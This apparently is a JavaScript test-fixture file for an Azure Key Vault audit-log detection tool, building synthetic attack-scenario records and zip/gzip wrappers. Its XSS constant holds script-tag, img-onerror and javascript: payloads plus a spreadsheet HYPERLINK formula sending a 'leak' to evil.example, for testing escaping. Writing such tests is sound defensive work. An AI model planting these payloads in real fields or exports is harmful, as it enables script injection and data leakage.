// Test inputs written by the tests themselves: a small attack scenario as raw diagnostic records
// (wrapped as JSON lines, {"records":[…]}, gzip and zip), and records whose fields carry XSS and
// spreadsheet-formula payloads. Rules used here need no baseline, so one short file fires them.
import zlib from 'node:zlib';

const SUB = '11111111-2222-3333-4444-555555555555';
const rid = (vault) => `/SUBSCRIPTIONS/${SUB}/RESOURCEGROUPS/RG-E2E/PROVIDERS/MICROSOFT.KEYVAULT/VAULTS/${vault.toUpperCase()}`;
export const TOR_IP = '2.26.97.42'; // in the bundled TOR snapshot

function rec({ time, vault, op, status = 200, ip = '10.1.2.3', upn = 'alice@contoso.com', oid = 'aaaaaaaa-0000-0000-0000-000000000001',
  object = null, props = {}, client = 'azsdk-python-keyvault-secrets/4.7.0', uri = null }) {
  const kind = op.startsWith('Secret') ? 'secrets' : op.startsWith('Key') ? 'keys' : op.startsWith('Certificate') ? 'certificates' : null;
  const claim = op.startsWith('Vault')
    ? { 'http://schemas.microsoft.com/identity/claims/objectidentifier': oid, 'http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn': upn, appid: 'c44b4083-3bb0-49c1-b47d-974e53cbdf3c' }
    : { oid, upn, appid: '04b07795-8ddb-461a-bbee-02f9e1bf7b46', idtyp: 'user', ipaddr: ip };
  return {
    time, category: 'AuditEvent', operationName: op, resultType: 'Success',
    correlationId: `c0000000-0000-0000-0000-${String(Math.abs(hash(time + op))).padStart(12, '0').slice(0, 12)}`,
    callerIpAddress: ip, identity: { claim },
    properties: {
      ...(kind && object ? { id: `https://${vault}.vault.azure.net/${kind}/${object}/0123456789abcdef0123456789abcdef` } : {}),
      clientInfo: client, httpStatusCode: status,
      requestUri: uri || `https://${vault}.vault.azure.net/${kind || ''}${object ? '/' + object : ''}?api-version=7.4`,
      isAccessPolicyMatch: true, tlsVersion: 'TLS1_2', ...props,
    },
    resourceId: rid(vault), operationVersion: '7.4', resultSignature: status < 300 ? 'OK' : 'Forbidden', durationMs: '42',
  };
}
function hash(s) { let h = 7; for (const c of s) h = (h * 31 + c.charCodeAt(0)) | 0; return h; }

/** The scenario: admin changes, a deletion, and access from a TOR exit node. */
export function scenario() {
  const v = 'kv-e2e-payments';
  const vaultProps = { properties: { sku: { family: 'A', name: 'standard' }, networkAcls: { defaultAction: 'Deny', bypass: 'AzureServices' },
    enableSoftDelete: true, enablePurgeProtection: true, enableRbacAuthorization: false, softDeleteRetentionInDays: 90 } };
  return [
    rec({ time: '2026-10-18T03:00:00.0000000Z', vault: v, op: 'SecretGet', object: 'db-password' }),
    rec({ time: '2026-10-18T03:05:00.0000000Z', vault: v, op: 'VaultPut', uri: `https://management.azure.com${rid(v)}?api-version=2023-07-01`,
      props: { ...vaultProps, addedAccessPolicy: { ObjectId: 'bbbbbbbb-0000-0000-0000-000000000002', TenantId: SUB, Permissions: { keys: [], secrets: ['get', 'list'], certificates: [] } } } }),
    rec({ time: '2026-10-18T03:06:00.0000000Z', vault: v, op: 'VaultPatch', uri: `https://management.azure.com${rid(v)}?api-version=2023-07-01`,
      props: { ...vaultProps, addedIpRule: { Value: '198.51.100.0/24' } } }),
    rec({ time: '2026-10-18T03:10:11.0000000Z', vault: v, op: 'SecretGet', object: 'db-password', ip: TOR_IP }),
    rec({ time: '2026-10-18T03:12:00.0000000Z', vault: v, op: 'SecretDelete', object: 'old-api-key' }),
  ];
}

export const XSS = {
  script: '<script>window.__xss=1</script>',
  img: '<img src=x onerror="window.__xss=2">',
  js: 'javascript:window.__xss=3',
  formula: '=HYPERLINK("http://evil.example/?leak","click me")',
};

/** Records whose attacker-controlled fields carry the payloads. */
export function xssRecords() {
  const v = 'kv-xss';
  return [
    rec({ time: '2026-10-18T04:00:00.0000000Z', vault: v, op: 'SecretGet', object: 'plain', upn: XSS.script, client: XSS.img, uri: XSS.js }),
    rec({ time: '2026-10-18T04:01:00.0000000Z', vault: v, op: 'SecretDelete', object: 'payload', upn: XSS.formula, client: XSS.script }),
  ];
}

export const jsonl = (recs) => recs.map((r) => JSON.stringify(r)).join('\n') + '\n';
export const envelope = (recs) => JSON.stringify({ records: recs }, null, 2);
export const gzip = (text) => zlib.gzipSync(Buffer.from(text));

/** A minimal zip (deflate) writer: entries = [[name, Buffer|string], …]. */
export function zip(entries) {
  const parts = []; const central = []; let offset = 0;
  for (const [name, data] of entries) {
    const raw = Buffer.from(data); const comp = zlib.deflateRawSync(raw); const nameB = Buffer.from(name);
    const crc = zlib.crc32(raw);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0); local.writeUInt16LE(20, 4); local.writeUInt16LE(0, 6); local.writeUInt16LE(8, 8);
    local.writeUInt32LE(0, 10); local.writeUInt32LE(crc >>> 0, 14); local.writeUInt32LE(comp.length, 18);
    local.writeUInt32LE(raw.length, 22); local.writeUInt16LE(nameB.length, 26); local.writeUInt16LE(0, 28);
    const cen = Buffer.alloc(46);
    cen.writeUInt32LE(0x02014b50, 0); cen.writeUInt16LE(20, 4); cen.writeUInt16LE(20, 6); cen.writeUInt16LE(0, 8); cen.writeUInt16LE(8, 10);
    cen.writeUInt32LE(0, 12); cen.writeUInt32LE(crc >>> 0, 16); cen.writeUInt32LE(comp.length, 20); cen.writeUInt32LE(raw.length, 24);
    cen.writeUInt16LE(nameB.length, 28); cen.writeUInt32LE(offset, 42);
    parts.push(local, nameB, comp); central.push(cen, nameB);
    offset += 30 + nameB.length + comp.length;
  }
  const cd = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0); end.writeUInt16LE(entries.length, 8); end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12); end.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, cd, end]);
}

/** Rules the scenario must fire (none of them needs a learning period). */
export const SCENARIO_RULES = ['KV_AccessPolicyGranted', 'KV_FirewallRuleAdded', 'KV_TORAccess', 'KV_SensitiveOperation', 'KV_AdministrativeOperation'];
